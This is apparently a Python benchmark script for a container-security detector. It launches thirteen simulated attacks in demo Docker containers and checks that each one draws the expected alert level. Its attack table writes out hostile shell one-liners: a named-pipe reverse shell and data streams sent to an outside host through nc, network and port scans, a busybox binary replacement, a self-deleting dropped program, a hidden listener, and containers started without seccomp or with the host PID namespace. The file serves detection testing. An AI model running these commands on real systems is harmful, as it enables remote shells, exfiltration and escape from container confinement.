"""What attacks on real containers look like: ``python -m infra.bench.attacks``.

The demonstration's twelve containers, watched by the whole line on this machine's Docker engine
and a real Kafka. Once they are learned, each attack befalls containers that nothing else has
befallen: most are carried out by themselves, from within, the others by whoever has the engine.
Printed is the highest level that each was called, and when it was first called so; below what
it should be, the exit code is 1.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Final

import orjson

from infra.bench.watched import Place, told
from infra.demo.containers import PORT, SIBLINGS, Troupe
from infra.demo.telling import Telling
from models.records.verdict import Level, Verdict
from streams.demo.notes import Notes

APART_S: Final = 10.0
WATCHED_S: Final = 90.0
"""How long all is watched after the last."""
_ALL: Final = tuple(range(1, SIBLINGS + 1))
_FOLDER: Final = "/tmp/x"  # noqa: S108  # a container's, not ours
_REPLACED: Final = "cp /bin/busybox /bin/b; echo >> /bin/b; mv /bin/b /bin/busybox"


@dataclass(frozen=True, slots=True)
class Attack:
    """``script`` is what the ``victims`` (numbers of siblings) of a ``service`` do of their own
    accord; without one ``act`` is done to the first of them from outside.
    """

    name: str
    service: str
    victims: tuple[int, ...]
    least: Level
    script: str = ""
    act: Callable[[Any, Troupe, str], str] | None = None


@dataclass(slots=True)
class Begun:
    """An attack under way: since when, on which subjects."""

    attack: Attack
    began_ns: int
    subjects: list[str] = field(default_factory=list)


def _replica(**options: Any) -> Callable[[Any, Troupe, str], str]:
    def start(_client: Any, troupe: Troupe, name: str) -> str:
        service, number, *_ = name.split("-")
        return troupe.start(service, int(number) + SIBLINGS, **options).subject

    return start


def _enter(client: Any, troupe: Troupe, name: str) -> str:
    """A command in a replica that has just been started."""
    one = client.containers.get(_replica()(client, troupe, name))
    time.sleep(APART_S)
    one.exec_run(["/bin/ls", "/"])
    return str(one.id)


def _dropped(folder: str) -> str:
    return f"mkdir -p {folder}; cp /bin/busybox {folder}/busybox; {folder}/busybox sleep 600"


ATTACKS: Final = (
    Attack("a program over the image's own", "orders", (1,), Level.COMPROMISED,
           f"{_REPLACED}; /bin/busybox sleep 600"),
    Attack("a scan of addresses", "orders", (2,), Level.SUSPECT,
           f"for n in $(seq 40 60); do nc -w 1 ${{STRANGER%.*}}.$n {PORT} & done; wait"),
    Attack("a program that removes itself", "orders", (3,), Level.COMPROMISED,
           f"{_dropped(_FOLDER)} & sleep 1; rm {_FOLDER}/busybox; wait"),
    Attack("a program in all siblings at once", "web", _ALL, Level.COMPROMISED, _dropped(_FOLDER)),
    Attack("a shell for a stranger", "notifier", (1,), Level.WATCH,
           f"mkfifo /tmp/f; sh < /tmp/f | nc $STRANGER {PORT} > /tmp/f"),
    Attack("a scan of ports", "notifier", (2,), Level.SUSPECT,
           "for port in $(seq 1 60); do nc -w 1 $COLLEAGUE $port < /dev/null; done"),
    Attack("a miner", "notifier", (3,), Level.COMPROMISED,
           f"awk 'BEGIN {{ while (1) n++ }}' & while :; do echo share; sleep 1; done | "
           f"nc $STRANGER {PORT}"),
    Attack("a hundred processes", "search", (1,), Level.SUSPECT,
           "for n in $(seq 100); do sleep 600 & done; wait"),
    Attack("a port opened behind the back", "search", (2,), Level.WATCH, "nc -l -p 4444"),
    Attack("100 kB/s to a stranger", "search", (3,), Level.COMPROMISED,
           f"while :; do head -c 100000 /dev/zero; sleep 1; done | nc $STRANGER {PORT}"),
    Attack("a command from outside", "search", (2,), Level.SUSPECT, act=_enter),
    Attack("a replica without confinement", "orders", (1,), Level.COMPROMISED,
           act=_replica(security_opt=["seccomp=unconfined"])),
    Attack("a replica among the host's processes", "search", (1,), Level.COMPROMISED,
           act=_replica(pid_mode="host")),
)  # fmt: skip  # a table


def main() -> int:
    """Exit codes: 0 each was called what it should be; 1 one was not; 2 it can't be told here."""
    return told(_play)


def _play(place: Place, telling: Telling, notes: Notes) -> int:
    begun = [_begin(attack, place.client, telling) for attack in ATTACKS]
    telling.live(WATCHED_S)
    return _tell(begun, notes)


def _begin(attack: Attack, client: Any, telling: Telling) -> Begun:
    telling.view.stage(attack.name)
    troupe, begun = telling.troupe, Begun(attack, time.time_ns())
    for number in attack.victims:
        if attack.act is not None:
            begun.subjects.append(attack.act(client, troupe, troupe.name(attack.service, number)))
            continue
        actor = troupe.actor(attack.service, number)
        troupe.direct(actor, "script", attack.script)
        begun.subjects.append(actor.subject)
    telling.live(APART_S)
    return begun


def _tell(begun: list[Begun], notes: Notes) -> int:
    with notes.lock:
        verdicts = list(notes.verdicts)
    endings, short = [], 0
    for one in begun:
        called = [_new(verdicts, subject, one.began_ns) for subject in one.subjects]
        highest = [max(of, key=lambda v: (v.level.rank, -v.at_ns), default=None) for of in called]
        least = min(0 if v is None else v.level.rank for v in highest)
        short += least < one.attack.least.rank
        endings.append({
            "attack": one.attack.name, "least": one.attack.least,
            "called": [v and {"level": v.level, "after_s": round((v.at_ns - one.began_ns) / 1e9, 1),
                              "why": [r.text for r in v.reasons[:3]]} for v in highest],
        })  # fmt: skip  # a record
    body = {"attacks": len(begun), "short": short, "told": endings}
    sys.stdout.write(orjson.dumps(body, option=orjson.OPT_INDENT_2).decode() + "\n")
    return int(short > 0)


def _new(verdicts: list[Verdict], subject: str, began_ns: int) -> list[Verdict]:
    """What was said of it since then that was not before: of a higher level, or for other facts
    or families.
    """
    of_it = [v for v in verdicts if v.subject == subject]
    before = [v for v in of_it if v.at_ns < began_ns]
    level = max((v.level.rank for v in before), default=0)
    known = {why for v in before for why in (*v.facts, *v.families)}
    return [
        v for v in of_it
        if v.at_ns >= began_ns and (v.level.rank > level or not known >= {*v.facts, *v.families})
    ]  # fmt: skip  # a condition a line


if __name__ == "__main__":
    sys.exit(main())
